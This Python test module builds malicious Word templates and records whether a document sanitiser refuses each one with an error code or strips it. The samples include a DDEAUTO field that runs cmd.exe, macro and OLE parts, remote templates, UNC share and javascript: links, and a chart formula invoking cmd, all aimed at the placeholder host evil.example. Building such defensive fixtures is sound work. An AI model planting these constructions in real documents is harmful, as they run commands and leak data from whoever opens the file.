"""What a Word file may try to do by itself: each attack is a small template, and what becomes of it.

`LOOT` is in everything that must never be delivered. An attack is refused with a code, or taken out (`None`).
"""

from __future__ import annotations

import io
import zipfile
from typing import Final

from docx_builder import DECLARED, build, field, paragraph

from contratgen.ooxml.names import NAMESPACES

LOOT: Final = "evil.example"
OFFICE: Final = NAMESPACES["r"]
STRICT: Final = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT: Final = "http://schemas.microsoft.com/office"
NAMED: Final = frozenset(
    {"image", "chart", "hyperlink", "header", "oleObject", "package", "control", "aFChunk", "subDocument"}
)
OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1evil.example"
PNG: Final = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
DDE: Final = f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {LOOT}"'
BEGIN: Final = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'


def links(*given: tuple[str, str, str]) -> str:
    """Return a part of relationships: type, target, and whatever else each says."""
    nodes = "".join(
        f'<Relationship Id="rIdz{n}" Type="{t}" Target="{to}" {more}/>' for n, (t, to, more) in enumerate(given)
    )
    return f'<Relationships xmlns="{NAMESPACES["rel"]}">{nodes}</Relationships>'


def with_members(docx: bytes, members: dict[str, str | bytes], gone: tuple[str, ...] = ()) -> bytes:
    """Return a Word file with members added or replaced, as they are."""
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist() if name not in {*members, *gone}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in {**kept, **members}.items():
            archive.writestr(name, content)
    return out.getvalue()


def naming(identifier: str = "rIdz0") -> str:
    """Return a paragraph that names a relationship."""
    return f'<w:p><w:hyperlink r:id="{identifier}"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>'


def _using(kind: str, identifier: str) -> bytes:
    """Return a template that names a relationship, if it is of a kind that does nothing unless it is named."""
    return build(paragraph("Bonjour"), naming(identifier) if kind.rpartition("/")[2] in NAMED else "")


def tied(kind: str, target: str, content: str | bytes = OLE, more: str = "") -> bytes:
    """Return a template whose body is tied to something."""
    rels = links((f"{OFFICE}/styles", "styles.xml", ""), (kind, target, more))
    return with_members(_using(kind, "rIdz1"), {"word/_rels/document.xml.rels": rels, f"word/{target}": content})


def outside(kind: str, target: str, mode: str = "External") -> bytes:
    """Return a template whose body is tied to an address."""
    rels = links((f"{OFFICE}/{kind}", target, f'TargetMode="{mode}"'))
    return with_members(_using(kind, "rIdz0"), {"word/_rels/document.xml.rels": rels})


def of_root(kind: str, target: str, content: str | bytes = OLE) -> bytes:
    """Return a template whose package is tied to something."""
    rels = links((f"{OFFICE}/officeDocument", "word/document.xml", ""), (kind, target, ""))
    return with_members(build(paragraph("Bonjour")), {"_rels/.rels": rels, target: content})


def with_settings(xml: str, rels: str = "", name: str = "word/_rels/settings.xml.rels") -> bytes:
    """Return a template with settings, and what they are tied to."""
    docx = build(paragraph("Bonjour"), settings=xml)
    return with_members(docx, {name: rels}) if rels else docx


def said(xml: str) -> bytes:
    """Return a template with one more paragraph."""
    return build(paragraph("Bonjour"), f"<w:p>{xml}</w:p>")


def story(tag: str, xml: str) -> str:
    """Return a part that holds paragraphs."""
    return f"<w:{tag} {DECLARED}>{xml}</w:{tag}>"


def _orphan_header(declared: str) -> bytes:
    content = story("hdr", f"<w:p>{field(DDE, 'x')}</w:p>")
    if declared:
        return tied(f"{OFFICE}/header", "header7.xml", content)
    return with_members(build(paragraph("Bonjour")), {"word/header7.xml": content})


def _vector() -> bytes:
    """Return a template with a picture and the drawing that Word keeps beside it."""
    beside = f'<a:ext uri="{{96DAC541}}"><asvg:svgBlip xmlns:asvg="{NAMESPACES["asvg"]}" r:embed="rIdz1"/></a:ext>'
    picture = f'<a:blip r:embed="rIdz0"><a:extLst>{beside}</a:extLst></a:blip>'
    rels = links((f"{OFFICE}/image", "a.png", ""), (f"{OFFICE}/image", "a.svg", ""))
    members = {"word/a.png": PNG, "word/a.svg": f"<svg><script>{LOOT}</script></svg>"}
    body = build(paragraph("a"), f"<w:p><w:r><w:drawing>{picture}</w:drawing></w:r></w:p>")
    return with_members(body, {"word/_rels/document.xml.rels": rels, **members})


_FORM: Final = (
    f'<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="{LOOT}"/></w:ffData></w:fldChar></w:r>'
)
_VIDEO: Final = (
    f'<w:r><w:drawing><wp15:webVideoPr xmlns:wp15="{NAMESPACES["wp15"]}" embeddedHtml="&lt;iframe src={LOOT}&gt;"/>'
    "</w:drawing></w:r>"
)
_BULLET: Final = (
    '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape>'
    f'<v:imagedata src="http://{LOOT}/a.png"/></v:shape></w:pict></w:numPicBullet>'
)
_XSLT: Final = links((f"{OFFICE}/transform", f"http://{LOOT}/x.xsl", 'TargetMode="External"'))
_O: Final = f'xmlns:o="{NAMESPACES["o"]}"'
_NOTE: Final = f'<w:footnote w:id="1"><w:p>{field(DDE, "x")}</w:p></w:footnote>'
_COMMENT: Final = f'<w:comment w:id="1"><w:p>{field(DDE, "x")}</w:p></w:comment>'
_XML: Final = f"<x a='{LOOT}'/>"
_GLOSSARY: Final = story("glossaryDocument", f"<w:docParts><w:docPart><w:docPartBody><w:p>{field(DDE, 'x')}</w:p>"
                         "</w:docPartBody></w:docPart></w:docParts>")  # fmt: skip
_TEMPLATE: Final = links((f"{OFFICE}/attachedTemplate", f"http://{LOOT}/t.dotm", 'TargetMode="External"'))
_ATTACHED: Final = '<w:attachedTemplate r:id="rIdz0"/>'
_MERGE: Final = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
    f'<w:connectString w:val="DRIVER=SQL Server;SERVER={LOOT}"/><w:query w:val="EXEC x"/></w:mailMerge>'
)
_SHAPE: Final = '<w:r><w:pict><v:shape style="width:9pt;height:9pt" {0}>{1}</v:shape></w:pict></w:r>'

_V: Final = f'xmlns:v="{NAMESPACES["v"]}" {_O}'
_W15: Final = 'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
_DRAWN: Final = "<w:r><w:drawing>{0}</w:drawing></w:r>"
_MODEL: Final = '<a:graphicData uri="m"><am3d:model3d xmlns:am3d="urn:x:model3d" r:embed="r"/></a:graphicData>'
_CHART: Final = (
    f'<c:chartSpace xmlns:c="{NAMESPACES["c"]}"><c:pivotSource><c:name>[{LOOT}]F!P</c:name></c:pivotSource><c:chart>'
    "<c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>{0}</c:f></c:numRef></c:val></c:ser></c:barChart>"
    "</c:plotArea></c:chart></c:chartSpace>"
)
_OUTSIDE: Final = 'TargetMode="External"'
_STYLE: Final = f'<w:style w:styleId="a"><w:name w:val="a"/><w:rPr><v:x {_V}/></w:rPr></w:style>'
_ADDED: Final = f"<w:sdtPr><w15:webExtensionLinked {_W15}/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent>"
_SOUND: Final = '<a:hlinkClick r:id=""><a:snd r:embed="rIdz9"/></a:hlinkClick>'


def _customised(inside: str) -> bytes:
    """Return a template with properties of one's own."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
    declared = f'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="{types}"'
    return of_root(
        f"{OFFICE}/custom-properties", "docProps/custom.xml", f"<Properties {declared}>{inside}</Properties>"
    )


def _property(name: str, value: str) -> str:
    return f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="2" name="{name}">{value}</property>'


def _unused(kind: str, target: str) -> bytes:
    """Return a template that is tied to an address by a name that its text does not say."""
    rels = links((f"{OFFICE}/styles", "styles.xml", ""), (f"{OFFICE}/{kind}", target, 'TargetMode="External"'))
    return with_members(build(paragraph("Bonjour")), {"word/_rels/document.xml.rels": rels})


def _pictured(name: str, content: bytes) -> bytes:
    """Return a template with a picture of a name."""
    return tied(f"{OFFICE}/image", name, content)


ATTACKS: Final[dict[str, tuple[bytes, str | None]]] = {
    # macros
    "macros": (tied(f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin"), "CG803"),
    "macros of a later year": (tied(f"{MICROSOFT}/2036/relationships/vbaProject", "vbaProject.bin"), "CG803"),
    "data of macros": (tied(f"{MICROSOFT}/2006/relationships/wordVbaData", "vbaData.xml", "<x/>"), "CG803"),
    "macros as a picture": (tied(f"{OFFICE}/image", "vbaProject.bin"), "CG804"),
    "macros of Strict": (tied(f"{STRICT}/vbaProject", "vbaProject.bin"), "CG803"),
    "macros that nothing ties": (with_members(build(paragraph("a")), {"word/vbaProject.bin": OLE}), None),
    "a macro behind a key": (
        tied(f"{MICROSOFT}/2006/relationships/keyMapCustomizations", "customizations.xml", _XML),
        None,
    ),
    "a macro of a form field": (said(_FORM), "CG804"),
    "toolbars": (tied(f"{MICROSOFT}/2006/relationships/attachedToolbars", "attachedToolbars.bin"), None),
    "a ribbon": (of_root(f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/customUI.xml", _XML), None),
    "a ribbon of 2010": (
        of_root(f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", _XML),
        None,
    ),
    # objects
    "an object": (tied(f"{OFFICE}/oleObject", "embeddings/oleObject1.bin"), "CG804"),
    "an object in the text": (said(f"<w:r><w:object><o:OLEObject {_O}/></w:object></w:r>"), "CG804"),
    "an object in a picture": (said(f'<w:r><w:pict><o:OLEObject {_O} Type="Link"/></w:pict></w:r>'), "CG804"),
    "an object that nothing ties": (with_members(build(paragraph("a")), {"word/embeddings/oleObject1.bin": OLE}), None),
    "a linked object": (outside("oleObject", f"http://{LOOT}/x.xls"), "CG805"),
    "a package": (tied(f"{OFFICE}/package", "embeddings/a.docx"), "CG804"),
    "a control": (tied(f"{OFFICE}/control", "activeX/activeX1.xml", _XML), "CG804"),
    "imported content": (tied(f"{OFFICE}/aFChunk", "a.html", f"<script>{LOOT}</script>"), "CG804"),
    "a subdocument": (outside("subDocument", f"file:///{LOOT}/a.docx"), "CG805"),
    "a video": (said(_VIDEO), "CG804"),
    "an add-in on the page": (tied(f"{MICROSOFT}/2011/relationships/webextension", "webextension1.xml", _XML), "CG804"),
    "an add-in beside the page": (
        of_root(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", _XML),
        None,
    ),
    "an unknown part": (tied(f"{MICROSOFT}/2031/relationships/hologram", "hologram.bin"), None),
    "an unknown part that the text shows": (
        with_members(
            build(paragraph("a"), naming()),
            {
                "word/_rels/document.xml.rels": links((f"{MICROSOFT}/2031/relationships/hologram", "a.bin", "")),
                "word/a.bin": OLE,
            },
        ),
        "CG804",
    ),
    "a part of a stranger": (tied(f"http://{LOOT}/relationships/data", "a.bin"), None),
    "a picture of a stranger": (tied(f"http://{LOOT}/relationships/image", "a.bin"), "CG804"),
    # fields
    "a field": (said(field(DDE, "x")), "CG806"),
    "a field never closed": (
        said(field(DDE, "x").removesuffix('<w:r><w:fldChar w:fldCharType="end"/></w:r>')),
        "CG806",
    ),
    "a field without result": (said(f"{BEGIN}<w:r><w:instrText>{DDE}</w:instrText></w:r>"), "CG806"),
    "a code outside any field": (said(f"<w:r><w:instrText>{DDE}</w:instrText></w:r>"), "CG806"),
    "a code in pieces": (
        said(f"{BEGIN}<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO {LOOT}</w:instrText></w:r>"),
        "CG806",
    ),
    "a field within a field": (
        said(
            f"{BEGIN}<w:r><w:instrText>HYPERLINK </w:instrText></w:r>{field('QUOTE ' + LOOT, 'x')}"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "CG806",
    ),
    "a computed target": (
        said(
            f"{BEGIN}<w:r><w:instrText>HYPERLINK </w:instrText></w:r>{field('TITLE', LOOT)}"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "CG806",
    ),
    "a simple field": (said(f'<w:fldSimple w:instr="INCLUDEPICTURE http://{LOOT}/a.png"/>'), "CG806"),
    "a field of a note": (build(paragraph("a"), footnotes=_NOTE), "CG806"),
    "a field of a header": (build(paragraph("a"), header=f"<w:p>{field(DDE, 'x')}</w:p>"), "CG806"),
    "a field of a header that no section shows": (_orphan_header("declared"), "CG806"),
    "a field of a header that nothing ties": (_orphan_header(""), None),
    "a field of a comment": (build(paragraph("a"), comments=_COMMENT), "CG806"),
    "a field of a building block": (tied(f"{OFFICE}/glossaryDocument", "glossary/document.xml", _GLOSSARY), None),
    "a field in UTF-16": (
        tied(f"{OFFICE}/header", "header7.xml", story("hdr", f"<w:p>{field(DDE, 'x')}</w:p>").encode("utf-16")),
        "CG806",
    ),
    # addresses
    "a share in a link field": (said(field(f'HYPERLINK "\\\\\\\\{LOOT}\\\\a.docx"', "x")), "CG805"),
    "a share without quotes": (said(field(f"HYPERLINK \\\\{LOOT}\\a", "x")), "CG805"),
    "a relative link field": (said(field(f'HYPERLINK "{LOOT}/a.docx"', "x")), "CG805"),
    "a link field after its switches": (said(field(f'HYPERLINK \\o "bulle" \\h "file:///{LOOT}"', "x")), "CG805"),
    "a script in a link field": (said(field(f"HYPERLINK javascript:{LOOT}", "x")), "CG805"),
    "a mode in small letters": (outside("image", f"http://{LOOT}/a.png", "external"), "CG805"),
    "a mode with spaces": (outside("image", f"http://{LOOT}/a.png", " External "), "CG805"),
    "a mode that is none": (outside("image", f"http://{LOOT}/a.png", "Outside"), "CG805"),
    "a link to a share": (outside("hyperlink", f"\\\\{LOOT}\\a.docx"), "CG805"),
    "a relative link": (outside("hyperlink", f"{LOOT}/a.docx"), "CG805"),
    "a link said to be inside": (outside("hyperlink", f"file:///{LOOT}", "Internal"), "CG805"),
    "a link of a stranger's scheme": (outside("hyperlink", f"ms-word:ofe|u|https://{LOOT}/a.docx"), "CG805"),
    "a linked picture of Strict": (
        with_members(
            build(paragraph("a"), naming()),
            {
                "word/_rels/document.xml.rels": links(
                    (f"{STRICT}/image", f"https://{LOOT}/a.png", 'TargetMode="External"')
                )
            },
        ),
        "CG805",
    ),
    "a picture of VML": (said(_SHAPE.format("", f'<v:imagedata src="http://{LOOT}/x.png"/>')), "CG805"),
    "a link of VML": (said(_SHAPE.format(f'href="\\\\{LOOT}\\a"', "")), "CG805"),
    "a filling of VML": (said(_SHAPE.format("", f'<v:fill src="http://{LOOT}/x.png"/>')), "CG805"),
    "an action of a picture": (
        said(f'<w:r><w:drawing><a:hlinkClick r:id="" action="ppaction://program?{LOOT}"/></w:drawing></w:r>'),
        "CG805",
    ),
    "a bullet of VML": (build(paragraph("a"), numbering=_BULLET), "CG805"),
    # settings
    "another template": (with_settings(_ATTACHED, _TEMPLATE), None),
    "another template by .RELS": (with_settings(_ATTACHED, _TEMPLATE, "word/_rels/settings.xml.RELS"), None),
    "another template by _RELS": (with_settings(_ATTACHED, _TEMPLATE, "word/_RELS/Settings.xml.rels"), None),
    "another template by a backslash": (with_settings(_ATTACHED, _TEMPLATE, "word\\_rels\\settings.xml.rels"), None),
    "a mail merge": (with_settings(_MERGE), None),
    "sources of a mail merge": (
        with_settings(_MERGE, links((f"{OFFICE}/mailMergeSource", f"file:///{LOOT}", 'TargetMode="External"'))),
        None,
    ),
    "a transformation": (with_settings('<w:saveThroughXslt r:id="rIdz0"/>', _XSLT), None),
    "variables": (with_settings(f'<w:docVars><w:docVar w:name="a" w:val="{LOOT}"/></w:docVars>'), None),
    "an unknown setting": (with_settings(f'<w:runAtOpen w:val="{LOOT}"/>'), "CG804"),
    "frames": (
        tied(f"{OFFICE}/webSettings", "webSettings.xml", story("webSettings", f"<w:frameset>{LOOT}</w:frameset>")),
        None,
    ),
    # disguises
    "another kind of document": (
        build(paragraph("a"), types={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "CG802",
    ),
    "a part with two uses": (
        with_members(
            build(paragraph("a"), naming()),
            {
                "word/a.xml": story("hdr", f"<w:p>{LOOT}</w:p>"),
                "word/_rels/document.xml.rels": links(
                    (f"{OFFICE}/header", "a.xml", ""), (f"{OFFICE}/comments", "a.xml", "")
                ),
            },
        ),
        "CG804",
    ),
    "a drawing with a script": (_vector(), None),
    "macros as a font": (tied(f"{OFFICE}/font", "fonts/font1.odttf"), None),
    "a field in Strict": (
        tied(
            f"{OFFICE}/header",
            "header7.xml",
            story("hdr", f"<w:p>{field(DDE, 'x')}</w:p>").replace(
                NAMESPACES["w"], "http://purl.oclc.org/ooxml/wordprocessingml/main"
            ),
        ),
        "CG802",
    ),
    "a second document": (
        with_members(
            build(paragraph("a")),
            {
                "word/b.xml": story("document", f"<w:body><w:p>{LOOT}</w:p></w:body>"),
                "_rels/.rels": links(
                    (f"{OFFICE}/officeDocument", "word/document.xml", ""),
                    (f"{OFFICE}/officeDocument", "word/b.xml", ""),
                ),
            },
        ),
        "CG804",
    ),
    "a document within": (
        tied(f"{OFFICE}/officeDocument", "b.xml", story("document", f"<w:body>{LOOT}</w:body>")),
        "CG804",
    ),
    "two settings": (
        with_members(
            build(paragraph("a"), settings="<w:zoom/>"),
            {
                "word/b.xml": story("settings", "<w:zoom/>"),
                "word/_rels/document.xml.rels": links(
                    (f"{OFFICE}/settings", "settings.xml", ""), (f"{STRICT}/settings", "b.xml", "")
                ),
            },
        ),
        "CG804",
    ),
    "a style sheet": (
        tied(
            f"{OFFICE}/header", "header7.xml", f'<?xml-stylesheet href="http://{LOOT}/a.xsl"?>' + story("hdr", "<w:p/>")
        ),
        None,
    ),
    "words in a comment of XML": (
        tied(f"{OFFICE}/header", "header7.xml", story("hdr", f"<w:p/><!-- {LOOT} {{{{ x -->")),
        None,
    ),
    "a picture said to be inside": (outside("image", f"http://{LOOT}/a.png", "Internal"), "CG805"),
    "smart tags to download": (with_settings(f'<w:smartTagType w:name="a" w:url="http://{LOOT}/a"/>'), None),
    "a field in the result of another": (
        said(
            f'{BEGIN}<w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'{field(DDE, "x")}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "CG806",
    ),
    "another template of a header": (
        with_members(build(paragraph("a"), header=paragraph("b")), {"word/_rels/header1.xml.rels": _TEMPLATE}),
        None,
    ),
    "a linked picture of a header": (
        with_members(
            build(paragraph("a"), header=naming()),
            {"word/_rels/header1.xml.rels": links((f"{OFFICE}/image", f"http://{LOOT}/a", 'TargetMode="EXTERNAL"'))},
        ),
        "CG805",
    ),
    # names beside the vocabulary
    "a picture that is a script": (_pictured("evil.example.hta", b"BM<script>evil.example</script>"), "CG804"),
    "styles named as a program": (
        with_members(
            build(paragraph("a"), styles=""),
            {
                "word/evil.hta": story(
                    "styles", f'<w:style w:styleId="a"><w:name w:val="a"/><w:rPr><v:x {_V}/></w:rPr></w:style>'
                ),
                "word/_rels/document.xml.rels": links((f"{OFFICE}/styles", "evil.hta", "")),
            },
        ),
        "CG804",
    ),
    "an address that Word could not read": (
        said(_DRAWN.format(f'<a:hlinkClick r:id="" invalidUrl="file://{LOOT}/x"/>')),
        None,
    ),
    "a linked object that nothing ties": (said(f'<w:r><w:objectLink w:progId="{LOOT}" r:id="rIdz9"/></w:r>'), "CG804"),
    "data of a picture": (said(f'<w:r><w:pict><w:binData w:name="{LOOT}">AA</w:binData></w:pict></w:r>'), "CG804"),
    "data of a field": (
        said(f'<w:r><w:fldChar w:fldCharType="begin"><w:fldData>{LOOT}</w:fldData></w:fldChar></w:r>'),
        None,
    ),
    "a code in the result of a field": (
        said(
            f'{BEGIN}<w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:instrText>{DDE}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
        "CG806",
    ),
    "a script of VML": (
        said(f'<w:r><w:pict><v:shape {_V} onclick="{LOOT}" background="{LOOT}"/></w:pict></w:r>'),
        None,
    ),
    "a style of VML": (said(f'<w:r><w:pict><v:shape {_V} style="background:url({LOOT})"/></w:pict></w:r>'), "CG805"),
    "a copy within a shape": (said(f'<w:r><w:pict><v:shape {_V} o:gfxdata="{LOOT}"/></w:pict></w:r>'), None),
    "a macro of a drawn shape": (said(_DRAWN.format(f'<a:sp macro="{LOOT}"/>')), "CG805"),
    "a sound of a link": (
        said(_DRAWN.format(_SOUND)),
        "CG804",
    ),
    "an unknown tie": (
        with_members(
            build(paragraph("a"), '<w:p><w:r><w:tab r:id="rIdz0"/></w:r></w:p>'),
            {
                "word/_rels/document.xml.rels": links(
                    (f"{OFFICE}/hyperlink", f"https://{LOOT}", 'TargetMode="External"')
                )
            },
        ),
        "CG804",
    ),
    "an unknown element": (said(f"<w:r><w:launch w:val='{LOOT}'/></w:r>"), "CG804"),
    "an unknown attribute": (said(f"<w:r w:launch='{LOOT}'><w:t>a</w:t></w:r>"), None),
    "an element of a stranger": (said(f"<w:r><x:run xmlns:x='urn:{LOOT}' x:on='{LOOT}'/></w:r>"), None),
    "a stranger around words": (said("<x:run xmlns:x='urn:x'><w:r><w:t>mot</w:t></w:r></x:run>"), "CG804"),
    "a drawing of a stranger": (said(_DRAWN.format(_MODEL)), "CG804"),
    "an add-in of a control": (
        build(
            paragraph("a"),
            f"<w:sdt><w:sdtPr><w15:webExtensionLinked {_W15}/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>",
        ),
        None,
    ),
    "the base of links": (_customised(_property("_PID_LINKBASE", f"<vt:lpwstr>file://{LOOT}</vt:lpwstr>")), None),
    "a stored property": (_customised(_property("a", f"<vt:blob>{LOOT}</vt:blob>")), None),
    "a site under another's name": (outside("hyperlink", f"https://www.impots.gouv.fr@{LOOT}/"), "CG805"),
    "a message with a file": (outside("hyperlink", f"mailto:a@b.fr?attach={LOOT}"), "CG805"),
    "a message with a file and a subject": (outside("hyperlink", f"mailto:?subject=a&amp;attachment={LOOT}"), "CG805"),
    "figures of another book": (tied(f"{OFFICE}/chart", "c.xml", _CHART.format(f"[\\\\{LOOT}\\a.xlsx]F!$A$1")), None),
    "figures of an order": (tied(f"{OFFICE}/chart", "c.xml", _CHART.format(f"cmd|'/c {LOOT}'!A0")), None),
    # what nothing uses
    "a picture lost": (_unused("image", "NULL"), None),
    "a former link": (_unused("hyperlink", f"http://{LOOT}/"), None),
    "a former object": (_unused("oleObject", f"file:///{LOOT}"), None),
    "macros of another editor": (tied("http://schemas.onlyoffice.com/jsaProject", "jsaProject.bin"), None),
    "data of another editor": (tied("http://www.wps.cn/officeDocument/2020/cellImage", "cellimages.xml", _XML), None),
    "settings of another editor": (with_settings(f"<x:data xmlns:x='http://www.wps.cn/x' x:at='{LOOT}'/>"), None),
    "settings with two versions": (
        with_settings('<mc:AlternateContent><mc:Choice Requires="w14"><w:zoom/></mc:Choice></mc:AlternateContent>'),
        None,
    ),
}
